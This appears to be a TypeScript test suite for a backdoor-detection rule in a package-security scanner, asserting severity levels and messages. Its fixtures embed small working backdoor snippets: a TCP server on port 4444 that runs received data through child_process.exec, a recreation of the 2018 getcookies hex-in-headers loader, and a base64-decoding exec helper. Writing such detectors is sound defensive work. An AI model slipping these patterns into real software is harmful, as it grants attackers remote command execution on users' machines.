import assert from 'node:assert/strict';
import { analysePackage } from '../../server/src/artifacts/analysis/analyse.js';
import type { ArtifactFacts } from '../../server/src/model/index.js';
import { backdoor } from '../../server/src/rules/backdoor.js';
import { artifactFacts, behaviour, flow, packageOf } from '../support/artifacts.js';
import { subject } from '../support/subjects.js';
import { draftsOf, onlyDraft } from './support/drafts-of.js';

const given = (facts: Partial<ArtifactFacts>) => ({ artifact: artifactFacts(facts) });
const levelOf = (...flows: ArtifactFacts['flows']) => draftsOf(backdoor, subject(), given({ flows }))[0]?.level;

describe('backdoor', () => {
  it('is high where a request is evaluated or run, critical where it was decoded, and medium where it says what is loaded', () => {
    assert.equal(levelOf(flow('request-input', 'evaluated')), 'high');
    assert.equal(levelOf(flow('request-input', 'run-as-command')), 'high');
    assert.equal(levelOf(flow('request-input', 'evaluated', { via: ['text'] })), 'high');
    assert.equal(levelOf(flow('request-input', 'evaluated', { via: ['hex'] })), 'critical');
    assert.equal(levelOf(flow('request-input', 'loaded-as-module', { via: ['hex'] })), 'medium');
    assert.equal(levelOf(flow('request-input', 'loaded-as-module')), 'medium');
    assert.equal(levelOf(flow('request-input', 'loaded-as-module', { moment: 'command' })), undefined);
  });

  it('says what happens, and when', () => {
    const flows = [flow('request-input', 'evaluated', { moment: 'call' })];
    const { message } = onlyDraft(draftsOf(backdoor, subject(), given({ flows })));
    assert.equal(message, 'some-package 1.0.0 runs what others send to a server when it is called');
  });

  it('is a key that opens everything', () => {
    const behaviours = [behaviour('master-key', { moment: 'call', file: 'lib/verify.js', line: 4 })];
    const { level, message, evidence } = onlyDraft(draftsOf(backdoor, subject(), given({ behaviours })));
    assert.equal(level, 'medium');
    assert.equal(message, 'some-package 1.0.0 lets in whoever knows a key that stands in its code');
    assert.deepEqual(
      evidence.map(({ file, line }) => [file, line]),
      [['lib/verify.js', 4]],
    );
  });

  it('is no server that only programs of the same machine reach', () => {
    const levelWith = (listen: string) =>
      draftsOf(backdoor, subject(), {
        artifact: analysePackage(
          packageOf({
            'index.js': `const net = require('net'); const server = net.createServer((socket) => socket.on('data', (order) => require('child_process').exec(String(order)))); ${listen}`,
          }),
        ),
      })[0]?.level;
    assert.equal(levelWith('server.listen(4444);'), 'high');
    assert.equal(levelWith(''), 'high');
    assert.equal(levelWith(`server.listen(process.argv[2]);`), 'high');
    const file = `require('path').join(require('os').homedir(), '.some', 'rpc.sock')`;
    assert.equal(levelWith(`server.listen(${file});`), undefined);
    assert.equal(levelWith(`server.listen(process.platform === 'win32' ? '\\\\.\\pipe\\some' : ${file});`), undefined);
    assert.equal(levelWith(`server.listen(${file}); server.listen(4444);`), 'high');
  });

  it('is an export that decodes code out of what it is called with (getcookies, 2018)', () => {
    const harness = `const store = Buffer.alloc(99); module.exports = (headers) => { const orders = /g(.)h(.+?)i/g, text = JSON.stringify(headers); let m; while ((m = orders.exec(text))) { const data = Buffer.from(m[2], 'hex'); if (m[1] === 'f') require('vm').runInThisContext(store.toString())(require); else data.copy(store, 1); } };`;
    const hidden = analysePackage(packageOf({ 'package.json': '{}', 'index.js': harness }));
    const { level, message } = onlyDraft(draftsOf(backdoor, subject(), { artifact: hidden }));
    assert.equal(level, 'high');
    assert.equal(message, 'some-package 1.0.0 decodes code out of what it is given and runs it when it is called');
    const open = analysePackage(
      packageOf({ 'package.json': '{}', 'index.js': 'module.exports = (code) => (0, eval)(code);' }),
    );
    assert.deepEqual(draftsOf(backdoor, subject(), { artifact: open }), []);
  });

  it('is no helper that hands a script to PowerShell in the way it wants it', () => {
    const run = (code: string) =>
      draftsOf(backdoor, subject(), {
        artifact: analysePackage(packageOf({ 'package.json': '{}', 'index.js': code })),
      });
    const encode = `exports.run = (script) => require('child_process').spawn('powershell.exe', ['-EncodedCommand', Buffer.from(script, 'utf16le').toString('base64')]);`;
    assert.deepEqual(run(encode), []);
    const decode = `exports.run = (script) => require('child_process').exec(Buffer.from(script, 'base64').toString());`;
    assert.equal(onlyDraft(run(decode)).level, 'high');
  });

  it('is a wallet that a host orders about', () => {
    const behaviours = [behaviour('wallet-obeys-host', { moment: 'call', detail: 'c.invalid' })];
    const { level, message } = onlyDraft(draftsOf(backdoor, subject(), { artifact: artifactFacts({ behaviours }) }));
    assert.equal(level, 'medium');
    assert.equal(
      message,
      'some-package 1.0.0 lets a host in its code ask the wallet for whatever it wants when it is called',
    );
  });

  it('says nothing of a request that is answered, and nothing where nothing is known', () => {
    assert.equal(levelOf(flow('request-input', 'network'), flow('downloaded', 'evaluated')), undefined);
    assert.deepEqual(draftsOf(backdoor, subject()), []);
  });
});
